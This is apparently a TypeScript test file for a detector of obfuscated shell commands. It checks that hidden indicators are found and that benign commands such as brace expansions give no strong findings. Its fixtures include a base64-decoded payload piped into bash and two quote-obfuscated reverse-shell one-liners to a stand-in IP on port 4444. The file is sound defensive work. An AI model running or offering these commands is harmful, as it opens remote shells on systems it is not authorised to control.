import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { factsFrom } from "#alert/facts.fixture.ts";
import { ran } from "./execution/examples.ts";
import { gated } from "./execution/needles.ts";
import { findIndicators } from "./index.ts";

describe("findIndicators in commands that hide their words", () => {
  const hidden: readonly (readonly [command: string, id: string])[] = [
    ["bash -c {echo,YmFzaA==}|{base64,-d}|bash", "decoded-payload-into-shell"],
    ["bash -c b''ash -i >& /dev/t''cp/203.0.113.6/4444", "reverse-shell-dev-tcp"],
    ['bash -c bash -i >& /dev/t""cp/203.0.113.6/4444 0>&1', "reverse-shell-dev-tcp"],
  ];
  for (const [command, id] of hidden) {
    it(`finds ${id} in ${command}, and quotes what stands there`, () => {
      const found = findIndicators(factsFrom(ran(command)));
      const finding = found.find(({ indicator }) => indicator.id === id);
      assert.ok(finding, found.map(({ indicator }) => indicator.id).join());
      assert.ok(command.includes(finding.quote), finding.quote);
      assert.equal(new Set(found.map(({ indicator }) => indicator)).size, found.length);
    });
  }

  for (const command of [
    "cp a.{txt,bak}",
    'curl -d {"a":"","b":1} http://localhost/',
    "jq -c {a,b}",
    "sh -c { echo a; }",
  ]) {
    it(`is sure of nothing in ${command}`, () => {
      const sure = findIndicators(factsFrom(ran(command))).filter(({ indicator }) => indicator.certainty !== "weak");
      assert.deepEqual(sure, []);
    });
  }
});

describe("gated", () => {
  it("refuses words too short for the shared look", () => assert.throws(() => gated(["nc"], () => null), /too short/));
});
